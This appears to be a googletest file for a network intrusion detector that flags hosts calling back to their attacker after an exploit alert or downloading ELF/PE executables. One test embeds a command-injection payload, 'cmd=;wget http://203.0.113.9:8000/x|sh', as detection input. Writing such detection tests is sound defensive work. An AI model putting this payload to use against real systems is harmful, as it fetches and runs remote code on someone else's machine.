#include "analytics/detectors/callback.h"

#include <gtest/gtest.h>

#include <memory>
#include <string>

#include "dissectors/protocols/http/http.h"
#include "tests/analytics/scene.h"

namespace lapwing::analytics {
namespace {

using test::Ends;
using test::Scene;

const RuleInfo kExploit{.sid = 1, .msg = "exploit", .category = "Attempted Administrator Privilege Gain"};
const RuleInfo kPolicy{.sid = 2, .msg = "policy", .category = "Potential Corporate Privacy Violation"};

struct Body : CarriedFile {
  explicit Body(std::string text) : bytes(std::move(text)) {}
  Bytes content() const override { return to_bytes(bytes); }
  std::string sha256() const override { return {}; }
  FileStage stage() const override { return FileStage::over; }
  const void* self() const override { return this; }
  std::string bytes;
};

std::string elf() {
  return "\x7f"
         "ELF" +
         std::string(200, '\0');
}

class CallbackScene : public Scene {
 public:
  CallbackScene& at(double seconds) {
    Scene::at(seconds);
    return *this;
  }
  CallbackScene& attack(const Ends& ends, const RuleInfo& rule = kExploit, const std::string& payload = {},
                        Direction direction = Direction::to_server) {
    alert(flow(ends), rule, payload, direction);
    return *this;
  }
  CallbackScene& call(const Ends& ends) {
    tell(flow(ends), {.moment = FlowMoment::answered, .all_packets = {1, 1}});
    return *this;
  }
  CallbackScene& fetch(const Ends& ends, const std::string& content, Direction direction = Direction::to_client) {
    const FlowRef of = flow(ends);
    const auto body = std::make_shared<Body>(content);
    show(pair(of.client, of.server), [of, body, direction, time = now()](AnyLocal& local, uint32_t) {
      const Event event{.protocol = &http::Http::protocol,
                        .direction = direction,
                        .record = &http::Http::protocol.records[1],
                        .file = body.get()};
      local.event({event, &of, time, of.client, of.server});
    });
    return *this;
  }
  std::vector<Behaviour> found() const { return Scene::found(*detector<Callback>().read(OptionSource())); }
};

constexpr std::string_view kAttacker = "198.51.100.7";
const Ends kAttack{"198.51.100.7", "10.0.0.5", 80}, kBack{"10.0.0.5", "198.51.100.7", 4444},
    kOther{"10.0.0.5", "203.0.113.9", 8000};

TEST(CallbackTest, TheAttackedHostCallsTheAttacker) {
  const auto found = CallbackScene().attack(kAttack).at(5).call(kBack).found();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].subject, "10.0.0.5");
  EXPECT_EQ(found[0].objects, std::vector<std::string>{std::string(kAttacker)});
  EXPECT_EQ(level_of(found[0].severity, found[0].confidence), FindingLevel::low) << "alone";
  ASSERT_EQ(found[0].attack.size(), 1u);
  EXPECT_EQ(found[0].attack[0].id, "T1203");
  EXPECT_EQ(found[0].flows.size(), 2u);
}

TEST(CallbackTest, WhatIsNone) {
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(70).call(kBack).found().empty()) << "too late";
  EXPECT_TRUE(CallbackScene().at(5).attack(kAttack).at(4).call(kBack).found().empty()) << "before it";
  EXPECT_TRUE(CallbackScene().call(kBack).at(50).attack(kAttack).at(55).call(kBack).found().empty()) << "as it did";
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(5).call(kOther).found().empty()) << "somebody else";
  EXPECT_TRUE(CallbackScene().attack(kAttack, kPolicy).at(5).call(kBack).found().empty()) << "no attack";
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(5).call(kAttack).found().empty()) << "the attacker again";
  auto data = kBack;
  data.client_port = 20;
  EXPECT_TRUE(CallbackScene().attack(kAttack).at(5).call(data).found().empty()) << "data of FTP";
}

TEST(CallbackTest, ItCallsWhoIsNamedInTheAttack) {
  const std::string payload = "cmd=;wget http://203.0.113.9:8000/x|sh";
  const auto found = CallbackScene().attack(kAttack, kExploit, payload).at(5).call(kOther).found();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_NE(found[0].evidence.find(R"("named_in_attack":true)"), std::string::npos) << found[0].evidence;
  EXPECT_EQ(found[0].objects.at(1), "203.0.113.9");
  EXPECT_EQ(
      CallbackScene().attack(kAttack, kExploit, std::string(5000, 'x') + payload).at(5).call(kOther).found().size(), 2u)
      << "however much it says before";
}

TEST(CallbackTest, EachStepRaisesIt) {
  CallbackScene scene;
  scene.attack(kAttack).at(5).call(kBack).at(50).fetch(kOther, elf());
  auto found = scene.found();
  ASSERT_EQ(found.size(), 3u);
  EXPECT_EQ(level_of(found[1].severity, found[1].confidence), FindingLevel::medium);
  EXPECT_EQ(found[1].attack.size(), 2u);
  for (int i = 1; i <= 40; ++i) scene.at(60 * i).call(kBack);
  found = scene.found();
  EXPECT_GE(level_of(found.back().severity, found.back().confidence), FindingLevel::high);
  EXPECT_EQ(found.back().attack.size(), 3u);
}

TEST(CallbackTest, AProgramIsOneByItsContent) {
  const auto fetched = [](const std::string& content, double when, Direction direction = Direction::to_client) {
    return CallbackScene().attack(kAttack).at(when).fetch(kOther, content, direction).found().size();
  };
  EXPECT_EQ(fetched(elf(), 30), 2u);
  EXPECT_EQ(fetched("MZ" + std::string(100, 'x'), 30), 2u);
  EXPECT_EQ(fetched("MZ", 30), 0u) << "a word";
  EXPECT_EQ(fetched("<html>" + std::string(100, 'x'), 30), 0u);
  EXPECT_EQ(fetched(elf(), 90), 0u);
  EXPECT_EQ(fetched(elf(), 30, Direction::to_server), 0u) << "sent to a server";
  EXPECT_TRUE(CallbackScene().at(30).fetch(kOther, elf()).found().empty()) << "by a host that nobody attacked";
}

TEST(CallbackTest, FromAHostInsideItIsThatHostsDoing) {
  const auto found =
      CallbackScene().attack({"10.0.0.9", "10.0.0.5", 445}).at(2).call({"10.0.0.5", "10.0.0.9", 4444}).found();
  ASSERT_EQ(found.size(), 2u);
  EXPECT_EQ(found[0].subject, "10.0.0.9");
  EXPECT_EQ(found[0].objects.at(0), "10.0.0.5");
  EXPECT_EQ(found[0].attack.at(0).id, "T1210");
}

}  // namespace
}  // namespace lapwing::analytics
